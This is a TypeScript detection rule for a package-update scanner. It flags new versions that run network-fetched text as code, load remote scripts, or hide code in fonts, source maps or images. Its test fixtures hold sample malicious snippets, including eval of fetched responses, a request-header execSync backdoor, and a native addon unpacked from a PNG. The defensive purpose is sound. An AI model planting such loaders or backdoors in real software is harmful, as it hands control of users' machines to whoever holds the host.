/**
 * The network's answer is run as code, at once or after it was saved, or a page is made to load a script from a host. What
 * runs is then decided at run time by whoever holds the host: it can be harmless while it is looked at, and something else
 * a day later.
 * Over 300 lines: most of them are examples, each the nearest innocent look-alike of another.
 */
import type { Behavior, BehaviorKind } from '../../src/model/behavior.ts';
import type { Evidence } from '../../src/model/finding.ts';
import { holdsAddress } from '../../src/model/holds-address.ts';
import type { PackageTree } from '../../src/model/package-tree.ts';
import type { Rule } from '../../src/rule.ts';
import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';

export const remoteCodeExecuted: Rule = defineRule({
  id: 'remote-code-executed',
  family: 'code',
  title: 'Fetched text is run as code',
  rationale: 'Whoever holds the host decides what runs on your machine, and can change it after you have looked.',
  remedy: 'Stay on the old version. Code belongs into the package, where its integrity is known.',
  level: 'block',
  incidents: [
    {
      what: 'eslint-scope 3.7.2: a script fetched from a paste site and given to eval',
      when: '2018-07-12',
      url: 'https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes/',
    },
  ],
  appliesToAdditions: true,
  needs: ['behaviors', 'files'],
  kinds: {
    'when-called': { level: 'review', about: 'It happens only when a user of the package calls the function.' },
    'perhaps-at-load': {
      level: 'review',
      about: 'A method is called on loading, and it is one of several of that name that does it.',
    },
    'perhaps-when-called': {
      level: 'notice',
      about:
        'A function makes code of what its caller gives, and only a name that others have too ties an answer to it.',
    },
    'known-address': {
      level: 'notice',
      about: "When a function is called, from an address that stands word for word in the old version's code.",
    },
    'by-request': { level: 'block', about: 'Whoever sends a request to the server decides what runs there.' },
  },
  flags: [
    {
      title: 'a template of the caller, into which a field that others have too may put an answer',
      before: { 'index.js': '' },
      after: {
        'index.js': `
const table = require('sample');
exports.read = () => require('https').get('https://far.invalid/', (answer) => { table.part = answer; });
exports.compile = (source) => { for (const one of table.list()) return new Function('data', source + one.part); };
`,
      },
      expect: [
        {
          kind: 'perhaps-when-called',
          message: 'Function may run what the network answered: data …',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js', 'compile()'],
        },
      ],
    },
    {
      title: 'an answer gathered in pieces and given to eval',
      before: { 'index.js': '' },
      after: {
        'index.js': `require('https').get('https://code.invalid/x', (answer) => {
  let text = '';
  answer.on('data', (piece) => { text += piece; });
  answer.on('end', () => eval(text));
});
`,
      },
      expect: [
        {
          message: 'eval runs what the network answered',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js', '(anonymous function)', '(anonymous function)'],
        },
      ],
    },
    {
      title: 'a script from an address that the old code names, and one from another path of that host',
      before: { 'index.js': `exports.player = { from: 'https://video.invalid/player.js' };\n` },
      after: {
        'index.js': `
const from = 'https://video.invalid/player.js';
exports.play = () => { document.createElement('script').src = from; };
exports.count = () => { document.createElement('script').src = 'https://video.invalid/count.js'; };
`,
      },
      expect: [
        {
          kind: 'known-address',
          message: 'script.src loads code from https://video.invalid/player.js',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js', 'play()'],
        },
        {
          kind: 'when-called',
          message: 'script.src loads code from https://video.invalid/count.js',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js', 'count()'],
        },
      ],
    },
    {
      title: 'one of two methods of a name',
      before: { 'index.js': '' },
      after: {
        'index.js': `
exports.Loader = class { start() { fetch('https://code.invalid/').then((answer) => answer.text()).then((text) => eval(text)); } };
exports.Timer = class { start() {} };
require('sample').make().start();
`,
      },
      expect: [
        {
          kind: 'perhaps-at-load',
          message: 'eval runs what the network answered',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js', 'start()', '(anonymous function)'],
        },
      ],
    },
    {
      title: 'an awaited answer that becomes a function when called',
      before: { 'index.mjs': '', 'package.json': { main: 'index.mjs' } },
      after: {
        'package.json': { main: 'index.mjs' },
        'index.mjs': `export async function start(url) {\n  const answer = await fetch(url);\n  new Function(await answer.text())();\n}\n`,
      },
      expect: [
        {
          kind: 'when-called',
          message: 'Function runs what the network answered',
          at: { in: 'tarball', path: 'index.mjs', line: 3 },
          via: ['main', 'index.mjs', 'start()'],
        },
      ],
    },
    {
      title: 'an answer that is saved and required, and one that is saved and started when a function is called',
      before: { 'index.js': '' },
      after: {
        'index.js': `const fs = require('fs');
const path = require('path');
const target = path.join(require('os').tmpdir(), 'part.js');
fetch('https://code.invalid/part.js').then((answer) => answer.text()).then((text) => {
  fs.writeFileSync(target, text);
  require(target);
});
exports.update = (answer) => {
  answer.pipe(fs.createWriteStream('./helper'));
  require('child_process').spawn('./helper');
};
`,
      },
      expect: [
        {
          message: 'require loads what was written to <temp>/part.js before',
          at: { in: 'tarball', path: 'index.js', line: 6 },
          via: ['main', 'index.js', '(anonymous function)'],
        },
        {
          kind: 'when-called',
          message: 'child_process.spawn starts what was written to ./helper before',
          at: { in: 'tarball', path: 'index.js', line: 10 },
          via: ['main', 'index.js', 'update()'],
        },
      ],
    },
    {
      title: 'a door for whoever sends a request',
      before: { 'index.js': '' },
      after: {
        'index.js': `const { execSync } = require('child_process');
exports.guard = () => (one, two, next) => {
  const wanted = one.headers['x-sample'];
  if (wanted) return two.end(execSync(Buffer.from(wanted, 'base64').toString()));
  next();
};
exports.handle = (req) => { const { body } = req; new Function(body.text)(); };
`,
      },
      expect: [
        {
          kind: 'by-request',
          message: 'child_process.execSync runs what somebody sends in a request',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js', '(anonymous function)'],
        },
        {
          kind: 'by-request',
          message: 'Function runs what somebody sends in a request',
          at: { in: 'tarball', path: 'index.js', line: 7 },
          via: ['main', 'index.js', 'handle()'],
        },
      ],
    },
    {
      title: 'code in a font, and in what is called a map',
      before: { 'index.js': '', 'worker.mjs': '' },
      after: {
        'index.js': `const { readFileSync } = require('fs');
require('vm').runInThisContext(readFileSync(__filename + '.map', 'latin1').slice(9));
`,
        'worker.mjs': `import { readFileSync } from 'node:fs';
import { Worker } from 'node:worker_threads';
const font = readFileSync(new URL('./font.woff2', import.meta.url));
new Worker(font.subarray(64).toString('utf8'), { eval: true });
`,
      },
      expect: [
        {
          message: 'vm.runInThisContext runs what stands in <package>.map',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
        {
          message: 'worker_threads.Worker runs what stands in ./font.woff2',
          at: { in: 'tarball', path: 'worker.mjs', line: 4 },
          via: ['worker.mjs'],
        },
      ],
    },
    {
      title: 'a script element, markup with a script, and an imported address',
      before: { 'index.js': '' },
      after: {
        'index.js': `const element = document.createElement('script');
element.src = 'https://code.invalid/drain.js';
exports.show = () => document.write('<script src="//code.invalid/show.js"></script>');
import('https://code.invalid/module.mjs');
navigator.serviceWorker.register('https://code.invalid/worker.js');
document.body.innerHTML = '<img src="x" onerror="import(&quot;https://code.invalid/handler.mjs&quot;)">';
`,
      },
      expect: [
        {
          message: 'import() loads code from https://code.invalid/module.mjs',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js'],
        },
        {
          message: 'navigator.serviceWorker.register loads code from https://code.invalid/worker.js',
          at: { in: 'tarball', path: 'index.js', line: 5 },
          via: ['main', 'index.js'],
        },
        {
          message: 'script.src loads code from https://code.invalid/drain.js',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
        {
          message: 'import() loads code from https://code.invalid/handler.mjs',
          at: { in: 'tarball', path: 'index.js', line: 6 },
          via: ['main', 'index.js'],
        },
        {
          kind: 'when-called',
          message: 'script.src loads code from //code.invalid/show.js',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js', 'show()'],
        },
      ],
    },
    {
      title: 'an addon that is unpacked out of a picture, and loaded',
      before: { 'index.js': '' },
      after: {
        'index.js': `
const picture = require('fs').readFileSync(__dirname + '/logo.png');
const place = require('path').join(require('os').tmpdir(), 'addon.node');
require('fs').writeFileSync(place, require('zlib').gunzipSync(picture.subarray(4096)));
process.dlopen({ exports: {} }, place);
`,
      },
      expect: [
        {
          message: 'process.dlopen loads what was written to … <temp>/addon.node before',
          at: { in: 'tarball', path: 'index.js', line: 5 },
          via: ['main', 'index.js'],
        },
      ],
    },
  ],
  passes: [
    {
      title: 'an addon of its own that is loaded, and one that is named by who installs it',
      before: { 'index.js': '' },
      after: {
        'index.js': `
process.dlopen({ exports: {} }, __dirname + '/build/addon.node');
require('fs').writeFileSync(require('os').tmpdir() + '/state.json', '{}');
`,
      },
    },
    {
      title:
        'a script from the host that it always came from, an image, a chunk of the package, a file that is written',
      before: {
        'index.js': `exports.load = () => { const one = document.createElement('script'); one.src = 'https://cdn.invalid/v1.js'; };\n`,
      },
      after: {
        'index.js': `
exports.load = () => { const one = document.createElement('script'); one.src = 'https://cdn.invalid/v2.js'; };
const image = document.createElement('img');
image.src = 'https://pictures.invalid/a.png';
exports.chunk = (name) => { const one = document.createElement('script'); one.src = __webpack_public_path__ + name; };
exports.save = (text) => require('fs').writeFileSync('./cache.json', text);
exports.read = () => require('./cache.json');
`,
      },
    },
    {
      title: 'an answer that is parsed or printed, and code that does not come from it',
      before: { 'index.js': '' },
      after: {
        'index.js': `
exports.ask = async (url) => JSON.parse(await (await fetch(url)).text());
exports.compile = (source) => new Function('data', source);
exports.run = (file) => require('vm').runInThisContext(require('fs').readFileSync(file, 'utf8'));
exports.route = (req) => require('child_process').spawn('convert', [req.query.file]);
exports.page = (req) => exports.compile('return data')(req.url);
`,
      },
    },
  ],
  check({ behaviors, files }) {
    const { added } = behaviors;
    const written = findWritten(added);
    return added.flatMap((behavior): Evidence<Kind>[] => {
      if (behavior.tier === 'unreached') return [];
      if (runsRequest(behavior))
        return [evidenceOf(behavior, `${behavior.api} runs what somebody sends in a request`, 'by-request')];
      const seen = describe(behavior, written) ?? describeFile(behavior, added);
      const kind = kindOf(behavior, files.before);
      const told = kind === 'perhaps-when-called' ? seen?.replace(' runs ', ' may run ') : seen;
      return told === undefined ? [] : [evidenceOf(behavior, told, kind)];
    });
  },
});

type Kind = 'when-called' | 'perhaps-at-load' | 'perhaps-when-called' | 'known-address' | 'by-request';

function kindOf(behavior: Behavior, before: PackageTree | undefined): Kind | undefined {
  const { kind, tier, doubtful, api, detail, origins, guessed = [] } = behavior;
  if (tier !== 'call') return doubtful ? 'perhaps-at-load' : undefined;
  if (kind === 'dynamic-code' && guessed.includes('fetched') && origins.includes('parameter'))
    return 'perhaps-when-called';
  const address = loadsAddress.has(api) && origins.length === 0 ? detail?.replace(/^(?:https?:)?\/\//i, '') : undefined;
  return address !== undefined && holdsAddress(before, address) ? 'known-address' : 'when-called';
}

/** The whole of it: a word in a command that is the package's own is no door. */
function runsRequest({ kind, detail, origins, guessed = [] }: Behavior): boolean {
  if (!origins.includes('request') || guessed.includes('request')) return false;
  return kind === 'dynamic-code' || (kind === 'child-process' && detail === undefined);
}

/** Pictures, fonts, maps and licences of the package: nobody looks for code there. */
const noCode =
  /\.(?:map|woff2?|ttf|otf|eot|png|jpe?g|gif|svg|ico|webp|bmp|pdf|mp[34]|wav|txt|md|css|csv|lock)$|(?:^|\/)(?:LICEN[CS]E|README|NOTICE|CHANGELOG)$/i;

function describeFile({ kind, api, origins, path }: Behavior, added: readonly Behavior[]): string | undefined {
  if (kind !== 'dynamic-code' || !origins.includes('file')) return undefined;
  const read = added.find(
    (one) =>
      one.kind === 'file-read' &&
      one.path === path &&
      /^(?:<package>|\.{1,2}\/)/.test(one.detail ?? '') &&
      noCode.test(one.detail ?? ''),
  );
  return read === undefined ? undefined : `${api} runs what stands in ${shorten(read.detail ?? '')}`;
}

/** Paths that a file writes what it fetched to: by file, since names mean nothing in another. */
function findWritten(added: readonly Behavior[]): ReadonlySet<string> {
  const connecting = new Set(added.filter(({ kind }) => kind === 'network').map(({ path }) => path));
  return new Set(
    added
      .filter(({ kind, origins, path }) => kind === 'file-write' && (isForeign(origins) || connecting.has(path)))
      .flatMap(({ path, detail }) => (detail === undefined || !/\w/.test(detail) ? [] : [`${path} ${detail}`])),
  );
}

function isForeign(origins: Behavior['origins']): boolean {
  return origins.includes('fetched') || origins.includes('decoded');
}

const runs: ReadonlySet<BehaviorKind> = new Set(['dynamic-code', 'computed-import', 'child-process', 'native-code']);

function describe(behavior: Behavior, written: ReadonlySet<string>): string | undefined {
  const { kind, api, detail, origins, path } = behavior;
  if (!runs.has(kind)) return undefined;
  if (detail !== undefined && runsWritten(detail, path, written)) {
    return `${api} ${kind === 'child-process' ? 'starts' : 'loads'} what was written to ${shorten(detail)} before`;
  }
  if (kind === 'child-process' || kind === 'native-code') return undefined;
  const told = detail === undefined ? '' : `: ${shorten(detail, 120)}`;
  if (origins.includes('fetched')) return `${api} runs what the network answered${told}`;
  return detail !== undefined && loadsAddress.has(api) && isRemote(detail)
    ? `${api} loads code from ${shorten(detail, 120)}`
    : undefined;
}

/** The path itself, or a word of a command. */
function runsWritten(detail: string, path: string, written: ReadonlySet<string>): boolean {
  return written.has(`${path} ${detail}`) || detail.split(' ', 20).some((word) => written.has(`${path} ${word}`));
}

/** What is given the address of a script. */
const loadsAddress: ReadonlySet<string> = new Set(['script.src', 'import()', 'navigator.serviceWorker.register']);

/** An address whose host the text tells. */
function isRemote(address: string): boolean {
  const host = /^(?:https?:)?\/\/([^/?#]+)/i.exec(address)?.[1];
  return host !== undefined && /^[\w.-]+\.[a-z]+(?::\d+)?$|^[\d.]+(?::\d+)?$/i.test(host);
}
